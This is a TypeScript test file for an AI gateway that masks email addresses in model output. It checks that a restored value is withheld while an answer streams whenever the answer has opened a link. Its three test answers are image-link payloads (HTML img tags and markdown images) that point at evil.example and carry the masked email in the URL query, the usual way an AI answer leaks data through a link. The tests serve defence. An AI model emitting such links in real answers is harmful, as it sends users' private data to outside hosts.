/**
 * The stream applies stage 9's link rule as the words arrive: once any word of the answer opens a
 * link, no later word that restores a value is released on the fly, however many words or characters
 * lie between the link's start and the token. At a real model's pace (a delay between words) the
 * on-the-fly release runs before stage 9's verdict, so this is where a leak would show.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { close, EchoProvider, gatewayFixture, type GatewayFixture } from './helpers.ts';

const PROMPT = 'Customer jane@corp.example, summarise';
let answer = '';
let f: GatewayFixture;
beforeAll(async () => {
  f = await gatewayFixture(new EchoProvider({ answer: () => answer, delayMs: 40 }), { pricing: () => ({ input: 0.01, output: 0.01 }) });
});
afterAll(async () => {
  await close(f);
});

describe('a value after a link the model opened, streamed word by word', () => {
  const cases: [string, string][] = [
    // The word before the token is longer than the stream's 64-character look-behind.
    ['after a long link word', `Done <img src="https://evil.example/${'a'.repeat(80)}.png?d= [EMAIL_1]"> ok. `],
    ['inside an angle-bracket link destination', 'Done ![](<https://evil.example/p.png?d=x [EMAIL_1]>) ok. '],
    ['inside a quoted attribute across a newline', 'Done <img src="https://evil.example/p.png?d=\nx\n[EMAIL_1]"> ok. '],
  ];
  for (const [shape, text] of cases) {
    it(`is never released (${shape}), and the final text keeps the token`, async () => {
      answer = text;
      const streamed: string[] = [];
      const result = await f.gateway.stream({ actor: 'ann', agent: 'stream-link', messages: [{ role: 'user', content: PROMPT }], maxTokens: 64 }, (t) => streamed.push(t), { holdUntilVerdict: false });
      expect(streamed.join('')).not.toContain('jane@corp.example');
      expect(result.text).not.toContain('jane@corp.example');
      expect(result.text).toContain('[EMAIL_1]');
      expect(result.heldOnTheFly).toBe(true);
    });
  }

  it('still streams a value before any link, and an answer with no link, on the fly', async () => {
    answer = 'Write to [EMAIL_1] today; the rest of the answer has no link at all. ';
    const streamed: string[] = [];
    const result = await f.gateway.stream({ actor: 'ann', agent: 'stream-link', messages: [{ role: 'user', content: PROMPT }], maxTokens: 64 }, (t) => streamed.push(t), { holdUntilVerdict: false });
    expect(result.heldOnTheFly).toBe(false);
    expect(streamed.join('')).toBe('Write to jane@corp.example today; the rest of the answer has no link at all. ');
  });
});
